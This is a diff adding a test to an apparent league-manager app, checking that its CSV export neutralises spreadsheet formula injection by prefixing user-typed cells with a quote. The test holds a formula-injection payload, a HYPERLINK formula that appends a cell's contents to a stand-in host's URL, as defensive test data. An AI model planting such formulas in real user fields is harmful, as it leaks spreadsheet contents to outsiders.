@@ -149,6 +149,22 @@ async def test_csv_per_table(db, lg):
     assert next(p for p in players if p["name"] == "Grak")["keywords"] == "Orc|Blitzer"
 
 
+async def test_csv_cells_typed_by_users_never_become_spreadsheet_formulas(db, lg):
+    """A coach's « =HYPERLINK(...) » must reach the commissioner's spreadsheet as text, not as a formula."""
+    formula = '=HYPERLINK("http://example.invalid/?"&A1;"Cliquez")'
+    await TeamRepository(db).update(G1, USER, lg.tid("orcs"), name=formula, roster="+Orques")
+    await lg.player_repo.update(G1, USER, lg.pid("zog"), name="@SOMME(1;1)", skills=("-2+3", "Blocage"))
+    files = await export_csv(db, G1)
+    cells = [cell for name in files for row in csv.reader(io.StringIO(files[name]), delimiter=";") for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    teams = list(csv.DictReader(io.StringIO(files["teams.csv"]), delimiter=";"))
+    assert "'" + formula in {t["name"] for t in teams} and "'+Orques" in {t["roster"] for t in teams}
+    players = list(csv.DictReader(io.StringIO(files["players.csv"]), delimiter=";"))
+    assert next(p for p in players if p["name"] == "'@SOMME(1;1)")["skills"] == "'-2+3|Blocage"
+    data = await export_guild(db, G1)  # the JSON keeps what was typed
+    assert formula in {t["name"] for t in data["teams"]}
+
+
 async def test_empty_guild_exports_headers_only(db):
     files = await export_csv(db, 99)
     assert files["teams.csv"].startswith("id;name;coach_id;roster;treasury")
